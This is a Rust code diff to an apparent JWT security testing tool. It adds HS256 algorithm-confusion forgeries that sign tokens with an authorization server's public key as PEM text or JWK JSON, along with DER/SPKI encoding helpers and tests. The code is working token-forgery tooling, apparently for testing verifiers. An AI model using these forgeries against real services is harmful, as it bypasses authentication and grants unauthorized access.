@@ -3,7 +3,7 @@
 //! Set); the tool holds no key of the server's.
 
 use base64::Engine;
-use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
 use hmac::{Hmac, Mac};
 use serde::Deserialize;
 use serde_json::{Map, Value, json};
@@ -24,8 +24,14 @@ pub enum Forgery {
     OwnKey,
     /// HS256 with a key of the tool's, `iss` the real issuer and `kid` copied from its JWK Set.
     OwnKeyAsIssuer,
-    /// HS256 keyed with the AS's public key (algorithm confusion).
+    /// HS256 keyed with the AS's public key (algorithm confusion): its raw bytes.
     Hs256PublicKey,
+    /// HS256 keyed with the AS's public key as PEM text (SPKI), the form a verifier configured
+    /// with a PEM file hands its HMAC when the token says HS256.
+    Hs256PublicKeyPem,
+    /// HS256 keyed with the AS's public JWK as compact JSON text, in the order the JWK Set lists
+    /// its members: what a verifier that stores the JWK as a string hands its HMAC.
+    Hs256PublicKeyJwk,
 }
 
 #[derive(Debug, thiserror::Error)]
@@ -114,7 +120,12 @@ pub fn forge(
             }
             Ok(format!("{}.{}.{sig}", encode(&header), encode(&payload)))
         }
-        Forgery::AlgNone | Forgery::OwnKey | Forgery::OwnKeyAsIssuer | Forgery::Hs256PublicKey => {
+        Forgery::AlgNone
+        | Forgery::OwnKey
+        | Forgery::OwnKeyAsIssuer
+        | Forgery::Hs256PublicKey
+        | Forgery::Hs256PublicKeyPem
+        | Forgery::Hs256PublicKeyJwk => {
             let mut payload = match &real {
                 Some((_, p, _)) => p.clone(),
                 None => Map::new(),
@@ -166,7 +177,11 @@ pub fn forge(
                     if let Some(kid) = jwk.get("kid") {
                         header.insert("kid".into(), kid.clone());
                     }
-                    public_key_bytes(jwk)?
+                    match kind {
+                        Forgery::Hs256PublicKeyPem => spki_pem(jwk)?.into_bytes(),
+                        Forgery::Hs256PublicKeyJwk => jwk.to_string().into_bytes(),
+                        _ => public_key_bytes(jwk)?,
+                    }
                 }
             };
             header.insert("alg".into(), json!("HS256"));
@@ -202,6 +217,109 @@ fn public_key_bytes(jwk: &Value) -> Result<Vec<u8>, ForgeError> {
     }
 }
 
+/// DER: a tag, its length (short or long form), the content.
+fn der(tag: u8, content: &[u8]) -> Vec<u8> {
+    let mut out = vec![tag];
+    let len = content.len();
+    if len < 0x80 {
+        out.push(len as u8);
+    } else {
+        let bytes: Vec<u8> = len
+            .to_be_bytes()
+            .into_iter()
+            .skip_while(|b| *b == 0)
+            .collect();
+        out.push(0x80 | bytes.len() as u8);
+        out.extend(bytes);
+    }
+    out.extend_from_slice(content);
+    out
+}
+
+/// A DER INTEGER from unsigned big-endian bytes (as JWK members carry them).
+fn der_uint(bytes: &[u8]) -> Vec<u8> {
+    let start = bytes.iter().position(|b| *b != 0).unwrap_or(bytes.len());
+    let trimmed = &bytes[start..];
+    let mut content = Vec::with_capacity(trimmed.len() + 1);
+    if trimmed.first().is_none_or(|b| b & 0x80 != 0) {
+        content.push(0);
+    }
+    content.extend_from_slice(trimmed);
+    der(0x02, &content)
+}
+
+/// The key as a DER SubjectPublicKeyInfo (RFC 5280 §4.1; the key formats of RFC 8410, RFC 5480
+/// and RFC 8017).
+fn spki_der(jwk: &Value) -> Result<Vec<u8>, ForgeError> {
+    const OID: u8 = 0x06;
+    let field = |name: &str| -> Result<Vec<u8>, ForgeError> {
+        let v = jwk
+            .get(name)
+            .and_then(Value::as_str)
+            .ok_or_else(|| ForgeError::NoKey(format!("the key has no `{name}`")))?;
+        URL_SAFE_NO_PAD
+            .decode(v.trim_end_matches('='))
+            .map_err(|e| ForgeError::NoKey(format!("`{name}` is not base64url: {e}")))
+    };
+    let crv = jwk.get("crv").and_then(Value::as_str);
+    let unsupported = || ForgeError::NoKey(format!("no SPKI encoding for the curve {crv:?}"));
+    let (algorithm, key) = match jwk.get("kty").and_then(Value::as_str) {
+        Some("OKP") => {
+            let last = match crv {
+                Some("X25519") => 0x6e,
+                Some("X448") => 0x6f,
+                Some("Ed25519") => 0x70,
+                Some("Ed448") => 0x71,
+                _ => return Err(unsupported()),
+            };
+            (der(OID, &[0x2b, 0x65, last]), field("x")?)
+        }
+        Some("EC") => {
+            let curve: &[u8] = match crv {
+                Some("P-256") => &[0x2a, 0x86, 0x48, 0xce, 0x3d, 0x03, 0x01, 0x07],
+                Some("P-384") => &[0x2b, 0x81, 0x04, 0x00, 0x22],
+                Some("P-521") => &[0x2b, 0x81, 0x04, 0x00, 0x23],
+                Some("secp256k1") => &[0x2b, 0x81, 0x04, 0x00, 0x0a],
+                _ => return Err(unsupported()),
+            };
+            let mut algorithm = der(OID, &[0x2a, 0x86, 0x48, 0xce, 0x3d, 0x02, 0x01]);
+            algorithm.extend(der(OID, curve));
+            let mut point = vec![4u8];
+            point.extend(field("x")?);
+            point.extend(field("y")?);
+            (algorithm, point)
+        }
+        Some("RSA") => {
+            let mut algorithm = der(OID, &[0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01]);
+            algorithm.extend(der(0x05, &[]));
+            let mut numbers = der_uint(&field("n")?);
+            numbers.extend(der_uint(&field("e")?));
+            (algorithm, der(0x30, &numbers))
+        }
+        other => return Err(ForgeError::NoKey(format!("unsupported key type {other:?}"))),
+    };
+    let mut bits = vec![0u8];
+    bits.extend(key);
+    let mut spki = der(0x30, &algorithm);
+    spki.extend(der(0x03, &bits));
+    Ok(der(0x30, &spki))
+}
+
+/// The key as PEM text, as `openssl pkey -pubout` writes it: 64-character lines, a final newline.
+fn spki_pem(jwk: &Value) -> Result<String, ForgeError> {
+    let b64 = STANDARD.encode(spki_der(jwk)?);
+    let mut out = String::from("-----BEGIN PUBLIC KEY-----\n");
+    let mut rest = b64.as_str();
+    while !rest.is_empty() {
+        let (line, tail) = rest.split_at(rest.len().min(64));
+        out.push_str(line);
+        out.push('\n');
+        rest = tail;
+    }
+    out.push_str("-----END PUBLIC KEY-----\n");
+    Ok(out)
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -234,6 +352,8 @@ mod tests {
             Forgery::OwnKey,
             Forgery::OwnKeyAsIssuer,
             Forgery::Hs256PublicKey,
+            Forgery::Hs256PublicKeyPem,
+            Forgery::Hs256PublicKeyJwk,
         ] {
             let t = forge(kind, &real(), &claims, Some(&jwk), &d()).unwrap();
             assert_ne!(t, real(), "{kind:?}");
@@ -276,6 +396,49 @@ mod tests {
         .unwrap();
         let (input, sig) = t.rsplit_once('.').unwrap();
         assert_eq!(sig, hs256(&[9u8; 32], input));
+    }
+
+    #[test]
+    fn hs256_key_confusion_uses_the_pem_text_and_the_jwk_json() {
+        let x = "gdEh1gOQqKG5gWgP17zJ6x1BbQgyejbN4m5zUwBi8qU";
+        let jwk = json!({"kty": "OKP", "crv": "Ed25519", "x": x, "kid": "k1"});
+        // As `openssl pkey -pubout` wrote this key.
+        let pem = "-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEAgdEh1gOQqKG5gWgP17zJ6x1BbQgyejbN4m5zUwBi8qU=\n-----END PUBLIC KEY-----\n";
+        for (kind, key) in [
+            (Forgery::Hs256PublicKeyPem, pem.to_string()),
+            (
+                Forgery::Hs256PublicKeyJwk,
+                format!(r#"{{"kty":"OKP","crv":"Ed25519","x":"{x}","kid":"k1"}}"#),
+            ),
+        ] {
+            let t = forge(kind, &real(), &Map::new(), Some(&jwk), &d()).unwrap();
+            let (input, sig) = t.rsplit_once('.').unwrap();
+            assert_eq!(sig, hs256(key.as_bytes(), input), "{kind:?}");
+        }
+    }
+
+    #[test]
+    fn spki_pem_matches_what_openssl_writes() {
+        let cases = [
+            (
+                json!({"kty": "EC", "crv": "P-256", "x": "RYwNi_vlWT3wNewaLy_Ro9jnw-hidtu-e0DgyCXI_8o", "y": "WuMAowB83l1KJkaDWOwkCFh4MXT9FU-5DbHB0RCkfrA"}),
+                "MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAERYwNi/vlWT3wNewaLy/Ro9jnw+hi\ndtu+e0DgyCXI/8pa4wCjAHzeXUomRoNY7CQIWHgxdP0VT7kNscHREKR+sA==\n",
+            ),
+            (
+                json!({"kty": "EC", "crv": "P-521", "x": "AcYRfk3AyN_YiGAQeKfiXvPxA7EAySN42sV8M_lmMKfU3aT6E_p6qDmDp6UhJ6ziiAkGvZa15-3U-eYuI2zPrdmm", "y": "ABLPrX1b0NaG5VZzL811oEpu1yRPcPhOvkBVQ2aOmnMdcB7Vqy94YbmVV5H3gg8gOSaWUGIc8l0Ur16tPvzFtAD0"}),
+                "MIGbMBAGByqGSM49AgEGBSuBBAAjA4GGAAQBxhF+TcDI39iIYBB4p+Je8/EDsQDJ\nI3jaxXwz+WYwp9TdpPoT+nqoOYOnpSEnrOKICQa9lrXn7dT55i4jbM+t2aYAEs+t\nfVvQ1oblVnMvzXWgSm7XJE9w+E6+QFVDZo6acx1wHtWrL3hhuZVXkfeCDyA5JpZQ\nYhzyXRSvXq0+/MW0APQ=\n",
+            ),
+            (
+                json!({"kty": "RSA", "e": "AQAB", "n": "s-Eo2PHcYd5MMFq8UTexhXB2lwmmLDgtJlT5vKimPgFU-5tnVIiNYiAk52MrxNHu9b8dX08MPuhH5U8RyN4ALOhCG3aTphsZGwdyQ5VZwp6TBInaZXk6CFNGEa6-QFuQKFVxunfyjczzNiPEQ1xFAhoC8vq6UcCN9yon5yoC3SE"}),
+                "MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQCz4SjY8dxh3kwwWrxRN7GFcHaX\nCaYsOC0mVPm8qKY+AVT7m2dUiI1iICTnYyvE0e71vx1fTww+6EflTxHI3gAs6EIb\ndpOmGxkbB3JDlVnCnpMEidpleToIU0YRrr5AW5AoVXG6d/KNzPM2I8RDXEUCGgLy\n+rpRwI33KifnKgLdIQIDAQAB\n",
+            ),
+        ];
+        for (jwk, body) in cases {
+            let want = format!("-----BEGIN PUBLIC KEY-----\n{body}-----END PUBLIC KEY-----\n");
+            assert_eq!(spki_pem(&jwk).unwrap(), want, "{jwk}");
+        }
+        assert!(spki_pem(&json!({"kty": "EC", "crv": "P-192", "x": "AA", "y": "AA"})).is_err());
+        assert!(spki_pem(&json!({"kty": "oct", "k": "AA"})).is_err());
     }
 
     #[test]
